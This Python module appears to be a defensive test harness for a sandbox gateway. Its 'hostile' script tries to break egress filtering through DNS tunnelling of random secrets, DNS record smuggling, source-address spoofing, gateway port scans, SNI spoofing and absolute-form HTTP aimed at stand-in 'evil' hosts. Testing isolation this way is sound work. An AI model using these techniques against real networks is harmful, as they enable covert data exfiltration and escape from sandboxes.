"""The hostile script's attacks through the gateway (hostile.py): the host, other
networks and the other session, broadcast, resolvers and DNS tunnels, spoofed sources,
the gateway's own ports, ICMP, fragments, other IP protocols, TLS names and HTTP."""

from __future__ import annotations

import os
import socket
import ssl
import struct
from functools import partial

# Siblings in the folder mounted at /esc (the script's own, first on sys.path).
from hostile_wire import (
    TIMEOUT,
    T,
    attempt,
    dns,
    dns_message,
    dns_name,
    http_get,
    ping,
    read,
    split,
    tcp,
    udp,
)


def host_and_neighbours(enforce: bool) -> None:
    hp = T["host_port"]
    attempt("host_bridge_tcp", lambda: tcp(T["bridge"], hp, b"CODERUN-host"))
    attempt("host_bridge_udp", lambda: udp(T["bridge"], hp, b"CODERUN-host", reply=False))
    if enforce:
        attempt("host_egress_tcp", lambda: tcp(T["egress_bridge"], hp, b"CODERUN-host"))
        attempt("other_net_tcp", lambda: tcp(T["target"], T["listen_port"], b"CODERUN-other"))
        attempt(
            "other_net_udp",
            lambda: udp(T["target"], T["listen_port"], b"CODERUN-other", reply=False),
        )
    attempt("other_session_tcp", lambda: tcp(T["other_sandbox"], T["listen_port"], b"CODERUN-s"))
    attempt(
        "other_session_udp",
        lambda: udp(T["other_sandbox"], T["listen_port"], b"CODERUN-s", reply=False),
    )
    attempt("control_self_listener", lambda: tcp(T["self"], T["listen_port"]))


def broadcast_and_multicast() -> None:
    hp = T["host_port"]

    def bcast() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"CODERUN-bcast", ("255.255.255.255", hp))
        return "sent"

    attempt("bcast_limited", bcast)
    attempt("mcast_all_hosts", lambda: udp("224.0.0.1", hp, b"CODERUN-mcast", reply=False))
    attempt("mcast_mdns", lambda: udp("224.0.0.251", 5353, b"CODERUN-mcast", reply=False))

    def igmp_join() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            group = socket.inet_aton("239.67.82.85") + socket.inet_aton("0.0.0.0")
            s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        return "joined"

    attempt("mcast_igmp_join", igmp_join)


def embedded_dns() -> None:
    query = dns_message(split(T["gateway_name"]))
    attempt("embedded_dns_udp53", lambda: dns("127.0.0.11", query))
    attempt("embedded_dns_tcp53", lambda: dns("127.0.0.11", query, tcp_=True))
    # Docker's resolver really listens on random ports; /proc shows them. Try each.
    for table, kind in (("/proc/net/udp", "udp"), ("/proc/net/tcp", "tcp")):
        for line in read(table).splitlines()[1:]:
            local = line.split()[1]
            addr, port_hex = local.split(":")
            if addr == "0B00007F":
                port = int(port_hex, 16)
                attempt(
                    f"embedded_dns_{kind}_{port}",
                    partial(dns, "127.0.0.11", query, port=port, tcp_=kind == "tcp"),
                )


def resolvers_and_tunnels() -> None:
    gw, nonce = T["gateway"], T["nonce"]
    direct = dns_message(split(f"coderun-direct-{nonce}.example.test"))
    attempt("direct_dns_udp", lambda: dns(T["internet"], direct))
    attempt("direct_dns_tcp", lambda: dns(T["internet"], direct, tcp_=True))
    attempt("direct_dns_other_udp", lambda: dns(T["evil"], direct))
    secret = os.urandom(20).hex()
    for name, qname, qtype, over_tcp in (
        ("tunnel_a", f"{secret}.coderun-tun-{nonce}.example.test", 1, False),
        ("tunnel_txt", f"{secret[:30]}.coderun-tun-{nonce}.example.test", 16, False),
        ("tunnel_tcp", f"{secret[:30]}.coderun-tun-{nonce}.example.test", 1, True),
        ("tunnel_sub_allowed", f"coderun-tun-{nonce}.api.example.test", 1, False),
        ("tunnel_suffix", f"api.example.test.coderun-tun-{nonce}.example.test", 28, False),
    ):
        attempt(name, partial(dns, gw, dns_message(split(qname), qtype), tcp_=over_tcp))
    allowed = split("api.example.test")
    smuggle = f"coderun-smuggle-{nonce}".encode()
    second_q = dns_name([smuggle + b"-q2", b"example", b"test"]) + struct.pack("!HH", 16, 1)
    attempt("smuggle_second_question", lambda: dns(gw, dns_message(allowed, 1, second_q)))
    txt = smuggle + b"-ar"
    record = dns_name([smuggle + b"-ar"]) + struct.pack("!HHIH", 16, 1, 60, len(txt) + 1)
    record += bytes([len(txt)]) + txt
    attempt("smuggle_additional", lambda: dns(gw, dns_message(allowed, 1, additional=record)))
    attempt("smuggle_dotted_label", lambda: dns(gw, dns_message([b"api.example", b"test"])))
    attempt("smuggle_case", lambda: dns(gw, dns_message([b"ApI", b"eXaMpLe", b"tEsT"])))
    attempt("control_gateway_dns", lambda: dns(gw, dns_message(allowed)))


def spoofing() -> None:
    def transparent() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
            s.bind((T["evil"], 0))
            s.sendto(b"CODERUN-spoof", (T["internet"], 7))
        return "sent from a foreign address"

    def freebind(kind: int) -> str:
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(TIMEOUT)
            s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND: bind works ...
            s.bind((T["evil"], 0))
            if kind == socket.SOCK_DGRAM:  # ... but may the packet leave?
                s.sendto(b"CODERUN-spoof", (T["internet"], 7))
                return f"reply {len(s.recv(100))} bytes"
            s.connect((T["internet"], 80))
            return "connected from a foreign address"

    def source_route() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(TIMEOUT)
            lsrr = bytes([131, 7, 4]) + socket.inet_aton(T["evil"]) + b"\0"
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, lsrr)
            s.sendto(b"CODERUN-spoof", (T["internet"], 7))
            return f"reply {len(s.recv(100))} bytes"

    attempt("spoof_transparent", transparent)
    attempt("spoof_freebind_udp", lambda: freebind(socket.SOCK_DGRAM))
    attempt("spoof_freebind_tcp", lambda: freebind(socket.SOCK_STREAM))
    attempt("spoof_source_route", source_route)


def gateway_ports() -> None:
    gw = T["gateway"]
    for port in T["gateway_ports"]:
        attempt(f"gateway_tcp_{port}", partial(tcp, gw, port))
    attempt("gateway_udp_9999", lambda: udp(gw, 9999, b"CODERUN-gw"))
    attempt("gateway_egress_tcp_8080", lambda: tcp(T["gateway_egress"], 8080))
    attempt("gateway_egress_tcp_22", lambda: tcp(T["gateway_egress"], 22))
    attempt("control_gateway_tcp_53", lambda: tcp(gw, 53))


def icmp_and_fragments() -> None:
    attempt("icmp_big_denied", lambda: ping(T["other"], b"CODERUN-icmp" + b"i" * 30000))
    attempt("icmp_small_denied", lambda: ping(T["other"], b"CODERUN-icmp" + b"i" * 1000))
    attempt("control_icmp_big_allowed", lambda: ping(T["internet"], b"CODERUN-icmp" + b"i" * 30000))
    big = b"CODERUN-big" + b"b" * 60000
    attempt("udp_big_denied", lambda: udp(T["other"], 7, big, timeout=2.0))
    attempt("control_udp_big_allowed", lambda: udp(T["internet"], 7, big, timeout=3.0))

    def udplite() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:  # IPPROTO_UDPLITE
            s.sendto(b"CODERUN-udplite", (T["evil"], 7))
        return "sent"

    def sctp() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:  # IPPROTO_SCTP
            s.settimeout(TIMEOUT)
            s.connect((T["evil"], 7))
        return "connected"

    def dccp() -> str:
        with socket.socket(socket.AF_INET, 6, 33) as s:  # SOCK_DCCP, IPPROTO_DCCP
            s.settimeout(TIMEOUT)
            s.connect((T["evil"], 7))
        return "connected"

    attempt("proto_udplite", udplite)
    attempt("proto_sctp", sctp)
    attempt("proto_dccp", dccp)


def tls_and_http() -> None:
    nonce = T["nonce"]
    ctx = ssl.create_default_context(cafile="/ctl/ca.pem")

    def tls(ip: str, sni: str, path: str) -> str:
        raw = socket.create_connection((ip, 443), timeout=3)
        with raw, ctx.wrap_socket(raw, server_hostname=sni) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n".encode())
            return s.recv(200).decode(errors="replace").splitlines()[0]

    # First what may pass: the lookup names the address api.example.test for the gateway.
    attempt("control_http_allowed", lambda: http_get(f"http://api.example.test/CODERUN-ok-{nonce}"))
    # A denied address, named in the ClientHello as an allowed host.
    attempt("sni_spoof", lambda: tls(T["evil"], "api.example.test", f"/coderun-sni-{nonce}"))

    def silent(ip: str) -> str:  # connect, then close without sending a byte
        with socket.create_connection((ip, 443), timeout=TIMEOUT):
            return "connected"

    attempt("tls_port_silent_denied", lambda: silent(T["tracker"]))
    # An allowed address asked (absolute form, Host) for a denied one: just payload.
    absolute = (
        f"GET http://evil.example.test/coderun-abs-{nonce} HTTP/1.1\r\n"
        "Host: evil.example.test\r\nConnection: close\r\n\r\n"
    ).encode()
    attempt("http_absolute_form", lambda: tcp(T["internet"], 80, absolute, timeout=3))
    attempt("control_https_allowed", lambda: tls(T["internet"], "api.example.test", "/ok"))
